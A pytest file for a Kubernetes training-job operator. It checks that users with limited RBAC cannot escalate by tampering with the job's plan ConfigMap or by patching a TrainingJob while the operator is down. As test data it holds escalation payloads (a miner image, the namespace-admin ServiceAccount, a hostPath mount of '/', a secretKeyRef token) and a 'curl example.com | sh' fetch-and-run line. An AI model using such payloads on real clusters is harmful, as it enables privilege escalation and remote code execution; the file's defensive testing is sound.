"""The spec a job runs is the spec its creator was authorised for, on a real kube-apiserver with the chart's
RBAC and webhook, as impersonated users:

- carol, who may only patch ConfigMaps, rewrites the job's `<job>-plan` (another image, a namespace admin's
  ServiceAccount, a hostPath volume): the gang restart creates no pod from it; the job says so (condition
  SpecAltered and a Warning Event) and, once the ConfigMap is deleted, re-plans from its own spec;
- alice, who may edit TrainingJobs but not create pods, edits a job while the operator is down: the API
  server refuses the edit (the webhook fails closed), so the returning operator runs no pod as the admin
  account; deleting a job and writing status still pass while it is away.

And on both servers (kmock and a real one, the operator in this process): a job started before digests were
recorded adopts its ConfigMap only while it holds the job's own spec, and a ConfigMap someone made before the
job is replaced whole (their keys gone), so its later restarts find the operator's content.
"""

from __future__ import annotations

import asyncio
import json
import time
from typing import Any

import operator_harness as h
import pytest
import yaml
from operator_harness import apiserver, cluster, operator  # noqa: F401 - the fixtures: kmock and a real API server
from prometheus_harness import (
    JOB_NAME,
    SCENARIO_JOB,
    OperatorScenario,
    chart_operator,
    envtest_dir,
    ready_nodes,
    stop_process,
    wait_until,
)

from meshjob.spec.manifest import parse_job
from meshjob_operator import names, render
from meshjob_operator.reconcile import Draft
from meshjob_operator.testing import Envtest

pytestmark = [pytest.mark.timeout(300)]

VALUES = {"operator": {"allowedImages": ["meshjob/trainer:*"]}}
NAMESPACE = "default"
ADMIN_ACCOUNT = "ns-admin"  # a ServiceAccount bound to the namespace's admin role
FOREIGN_IMAGE = "docker.io/carol/miner:1"
BACKOFF_4 = json.dumps({"spec": {"runPolicy": {"backoffLimit": 4}}})


@pytest.fixture
def envtest(tmp_path):
    assets = envtest_dir()
    if assets is None:
        pytest.skip("needs a real kube-apiserver: set KUBEBUILDER_ASSETS (tests/run.sh does)")
    with Envtest(assets, tmp_path / "envtest") as server:
        server.apply(
            [
                {
                    "apiVersion": "v1",
                    "kind": "ServiceAccount",
                    "metadata": {"name": ADMIN_ACCOUNT, "namespace": NAMESPACE},
                },
                _binding(ADMIN_ACCOUNT, "ClusterRole", "admin", kind="ServiceAccount"),
            ]
        )
        yield server


def _binding(subject: str, role_kind: str, role: str, kind: str = "User") -> dict[str, Any]:
    who: dict[str, Any] = {"kind": kind, "name": subject}
    who.update({"namespace": NAMESPACE} if kind == "ServiceAccount" else {"apiGroup": "rbac.authorization.k8s.io"})
    return {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "RoleBinding",
        "metadata": {"name": f"{subject}-{role}", "namespace": NAMESPACE},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": role_kind, "name": role},
        "subjects": [who],
    }


def _user_may(envtest: Envtest, user: str, rules: list[dict[str, Any]]) -> None:
    role = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "Role",
        "metadata": {"name": user, "namespace": NAMESPACE},
        "rules": rules,
    }
    envtest.apply([role, _binding(user, "Role", user)])


def _condition(status: dict[str, Any], type_: str) -> dict[str, Any]:
    return next((c for c in status.get("conditions") or [] if c.get("type") == type_), {})


def _events(envtest: Envtest, reason: str) -> list[dict[str, Any]]:
    found = json.loads(envtest.kubectl("get", "events", "-n", NAMESPACE, "-o", "json").stdout)["items"]
    return [e for e in found if e.get("reason") == reason and e["involvedObject"].get("name") == JOB_NAME]


def _running(operator: OperatorScenario, count: int = 2) -> list[dict[str, Any]]:
    """Wait for the job's `count` pods, play the kubelet until the job is Running; its pods."""
    wait_until(lambda: (operator.check(), len(operator.pods()) == count)[1], 60, f"the job's {count} host pods")
    operator.play_kubelet("Running")
    wait_until(lambda: (operator.check(), operator.job_status().get("phase") == "Running")[1], 60, "phase Running")
    return operator.pods()


def _runs_only_what_its_creator_wrote(pods: list[dict[str, Any]]) -> None:
    for pod in pods:
        spec = pod["spec"]
        assert {c["image"] for c in spec["containers"]} == {SCENARIO_JOB["spec"]["image"]}, pod["metadata"]["name"]
        assert spec.get("serviceAccountName", "default") == "default"
        assert not [v for v in spec["volumes"] if "hostPath" in v]
        assert not [e for c in spec["containers"] for e in c.get("env") or [] if "secretKeyRef" in str(e)]


@pytest.mark.slow
def test_a_configmap_editor_changes_no_pod_of_a_gang_restart(envtest, tmp_path):
    """carol's job.yaml parses (the operator read it with parse_job only before), and names an image off the
    allow-list, the namespace admin's account and a hostPath volume of /: the restart creates no pod from it."""
    _user_may(envtest, "carol", [{"apiGroups": [""], "resources": ["configmaps"], "verbs": ["get", "patch"]}])
    with chart_operator(envtest, tmp_path, VALUES) as operator:
        envtest.apply([SCENARIO_JOB])
        ready_nodes(envtest, ("host-0", "host-1"))
        _runs_only_what_its_creator_wrote(_running(operator))
        plan = names.configmap_name(JOB_NAME)
        carol = ("--as=carol", "-n", NAMESPACE)
        cm = json.loads(envtest.kubectl(*carol, "get", "configmap", plan, "-o", "json").stdout)
        doc = yaml.safe_load(cm["data"]["job.yaml"])
        doc["spec"].update(image=FOREIGN_IMAGE, serviceAccountName=ADMIN_ACCOUNT)
        doc["spec"]["podTemplate"] = {
            "spec": {
                "volumes": [{"name": "node", "hostPath": {"path": "/"}}],
                "containers": [{"name": "trainer", "volumeMounts": [{"name": "node", "mountPath": "/node"}]}],
            }
        }
        parse_job(doc)  # what the operator alone checked before
        patch = json.dumps({"data": {"job.yaml": yaml.safe_dump(doc)}})
        envtest.kubectl(*carol, "patch", "configmap", plan, "--type=merge", "-p", patch)
        operator.play_kubelet(fail_one=True)  # a gang restart

        def refused() -> bool:
            operator.check()
            operator.play_kubelet()  # finish the old pods' deletion
            status = operator.job_status()
            return _condition(status, "SpecAltered").get("status") == "True" and int(status.get("restarts") or 0) >= 1

        wait_until(refused, 60, "condition SpecAltered after the gang restart", interval_s=0.5)
        time.sleep(3)  # the operator's next reconciles
        operator.play_kubelet()
        assert operator.pods() == []
        status = operator.job_status()
        altered = _condition(status, "SpecAltered")
        assert altered["reason"] == "ConfigMapAltered" and f"ConfigMap {plan} was changed" in altered["message"]
        events = wait_until(lambda: _events(envtest, "SpecAltered"), 30, "a Warning Event SpecAltered")
        assert events[0]["type"] == "Warning" and plan in events[0]["message"]
        # the way back: without its ConfigMap the job re-plans from its own spec (which only its editors write)
        envtest.kubectl("delete", "configmap", plan, "-n", NAMESPACE)
        # an edit of runPolicy (by whoever may create pods) wakes the job at once, else its re-check within a minute
        envtest.kubectl("patch", "trainingjob", JOB_NAME, "-n", NAMESPACE, "--type=merge", "-p", BACKOFF_4)
        _runs_only_what_its_creator_wrote(_running(operator))
        wait_until(lambda: _condition(operator.job_status(), "SpecAltered").get("status") == "False", 30, "cleared")


@pytest.mark.slow
def test_an_edit_while_the_operator_is_down_runs_no_pod_as_the_admin_account(envtest, tmp_path):
    """alice may patch TrainingJobs but not create pods. The webhook refuses her edit while the operator runs
    (a SubjectAccessReview as her) and, failing closed, while it is down; deletes and status writes pass."""
    verbs = ["get", "list", "watch", "patch", "update"]
    _user_may(envtest, "alice", [{"apiGroups": ["meshjob.io"], "resources": ["trainingjobs"], "verbs": verbs}])
    other = {**SCENARIO_JOB, "metadata": {"name": "other", "namespace": NAMESPACE}}
    escalation = json.dumps(
        {
            "spec": {
                "serviceAccountName": ADMIN_ACCOUNT,
                "podTemplate": {
                    "spec": {
                        "containers": [
                            {
                                "name": "trainer",
                                "env": [{"name": "TOKEN", "valueFrom": {"secretKeyRef": {"name": "x", "key": "t"}}}],
                            }
                        ]
                    }
                },
            }
        }
    )
    alice = ("--as=alice", "-n", NAMESPACE, "patch", "trainingjob", JOB_NAME, "--type=merge", "-p", escalation)
    first_dir, second_dir = tmp_path / "first", tmp_path / "second"
    first_dir.mkdir()
    second_dir.mkdir()
    with chart_operator(envtest, first_dir, VALUES) as first:
        envtest.apply([SCENARIO_JOB, other])  # no node yet: neither job has started

        def unschedulable() -> bool:
            first.check()
            return all(
                _condition(first.job_status(name=n), "Unschedulable").get("status") == "True"
                for n in (JOB_NAME, "other")
            )

        wait_until(unschedulable, 60, "both jobs Unschedulable (planned, not started)")
        up = envtest.kubectl(*alice, check=False)
        assert up.returncode != 0 and "alice may not create pods" in up.stderr, up.stderr
        stop_process(first.process)  # kopf leaves its fail-closed checks registered
        down = envtest.kubectl(*alice, check=False)
        assert down.returncode != 0 and "failed calling webhook" in down.stderr, down.stderr
        job = json.loads(envtest.kubectl("get", "trainingjob", "-n", NAMESPACE, JOB_NAME, "-o", "json").stdout)
        assert "serviceAccountName" not in job["spec"] and "podTemplate" not in job["spec"]
        # what the API server does not send to the webhook: deletes, and the status subresource
        envtest.kubectl("delete", "trainingjob", "-n", NAMESPACE, "other", "--wait=false")
        phase = json.dumps({"status": {"phase": job["status"]["phase"]}})
        status = ("--subresource=status", "--type=merge", "-p", phase)
        envtest.kubectl("patch", "trainingjob", "-n", NAMESPACE, JOB_NAME, *status)
        ready_nodes(envtest, ("host-0", "host-1"))  # room for the job once the operator is back
        with chart_operator(envtest, second_dir, VALUES) as second:
            _runs_only_what_its_creator_wrote(_running(second))
            gone = ("get", "trainingjob", "-n", NAMESPACE, "other")
            wait_until(lambda: envtest.kubectl(*gone, check=False).returncode != 0, 60, "the deleted job finalized")


# --- the digest and the status patch, as data ------------------------------------------------------------------


def test_the_digest_covers_every_file_a_pod_mounts_from_the_configmap():
    cm = {"data": {"job.yaml": "spec: {}", "hosts.yaml": "[]"}}
    digest = render.configmap_digest(cm)
    assert digest == render.configmap_digest({**cm, "binaryData": {}}) == render.configmap_digest(dict(cm))
    assert digest != render.configmap_digest({"data": {**cm["data"], "extra.sh": "x"}})
    assert digest != render.configmap_digest({**cm, "binaryData": {"blob": "AAAA"}})
    assert digest != render.configmap_digest({"data": {"job.yaml": "spec: {}", "hosts.yaml": "[ ]"}})


def test_a_status_map_that_loses_keys_deletes_them_by_name():
    """A merge patch of {} changes nothing: the pods of a gang that is gone, and the digests of a rewrite cut
    short, are deleted key by key."""
    draft = Draft({"pods": {"j-host-0": "Failed", "j-host-1": "Running"}, "progress": {"step": 3, "eta": "x"}})
    draft["pods"], draft["progress"] = {}, {"step": 4}
    assert draft.changes() == {"pods": {"j-host-0": None, "j-host-1": None}, "progress": {"step": 4, "eta": None}}
    draft = Draft({"configMapDigests": ["b", "a"]})
    draft["configMapDigests"] = ["b"]
    assert draft.changes() == {"configMapDigests": ["b"]}  # lists are replaced whole


# --- the ConfigMap's digest, on kmock and a real API server ----------------------------------------------------


async def _restart(c: h.Cluster, tag: str, restarts: int) -> None:
    """Fail a pod: a gang restart, the `restarts`-th, through once the old pods are gone."""
    pods = await c.pods(tag, tag)
    await c.set_pod_phase(pods[0]["metadata"]["name"], "Failed", tag)

    def through(status: dict) -> bool:
        return int(status.get("restarts") or 0) == restarts and not status.get("restartPending")

    await h.wait_status(c, tag, through, f"gang restart {restarts}")


async def _recorded(c: h.Cluster, tag: str) -> list[str]:
    """status.configMapDigests once recorded, checked against the ConfigMap there is."""
    status = await h.wait_status(c, tag, lambda s: bool(s.get("configMapDigests")), "configMapDigests")
    cm = await c.get("configmaps", names.configmap_name(tag), tag)
    assert status["configMapDigests"] == [render.configmap_digest(cm or {})]
    return status["configMapDigests"]


@pytest.mark.slow
@pytest.mark.asyncio(loop_scope="module")
async def test_a_job_started_before_digests_were_recorded_adopts_only_its_own_spec(cluster, operator):
    tag = "legacy"
    await h.prepare_namespace(cluster, tag)
    await h.add_nodes(cluster, tag, 2)
    await cluster.create_job(h.scenario_job(tag))
    await h.wait_pods(cluster, tag, 2)
    await _recorded(cluster, tag)
    await cluster.kube.patch_job_status(tag, tag, {"configMapDigests": None})  # as an older operator left it
    await _restart(cluster, tag, 1)
    await h.wait_pods(cluster, tag, 2)
    await _recorded(cluster, tag)  # adopted: the ConfigMap holds the job's own spec
    await cluster.kube.patch_job_status(tag, tag, {"configMapDigests": None})
    plan = names.configmap_name(tag)
    doc = yaml.safe_load((await cluster.get("configmaps", plan, tag))["data"]["job.yaml"])
    doc["spec"]["image"] = FOREIGN_IMAGE
    await cluster.kube.patch(tag, "configmaps", plan, {"data": {"job.yaml": yaml.safe_dump(doc)}})
    await _restart(cluster, tag, 2)
    status = await h.wait_status(cluster, tag, lambda s: h.condition(s, "SpecAltered").get("status") == "True", "")
    assert h.condition(status, "SpecAltered")["reason"] == "ConfigMapAltered"
    await h.wait_pods(cluster, tag, 0)
    await asyncio.sleep(1)
    assert await cluster.pods(tag, tag) == []
    await h.delete_and_wait(cluster, tag)


@pytest.mark.slow
@pytest.mark.asyncio(loop_scope="module")
async def test_a_configmap_made_before_the_job_is_replaced_whole(cluster, operator):
    tag = "preseeded"
    plan = names.configmap_name(tag)
    await h.prepare_namespace(cluster, tag)
    await h.add_nodes(cluster, tag, 2)
    seeded = {"job.yaml": "spec: {}", "extra.sh": "curl example.com | sh"}
    body = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": plan, "namespace": tag}, "data": seeded}
    await cluster.create(f"/api/v1/namespaces/{tag}/configmaps", {**body, "binaryData": {"blob": "AAAA"}})
    await cluster.create_job(h.scenario_job(tag))
    await h.wait_pods(cluster, tag, 2)
    await _recorded(cluster, tag)
    cm = await cluster.get("configmaps", plan, tag)
    assert "extra.sh" not in cm["data"] and not cm.get("binaryData")
    assert yaml.safe_load(cm["data"]["job.yaml"])["spec"]["image"] == h.scenario_job(tag)["spec"]["image"]
    await _restart(cluster, tag, 1)
    await h.wait_pods(cluster, tag, 2)
    status = (await cluster.job(tag, tag))["status"]
    assert h.condition(status, "SpecAltered").get("status") != "True"
    await h.delete_and_wait(cluster, tag)
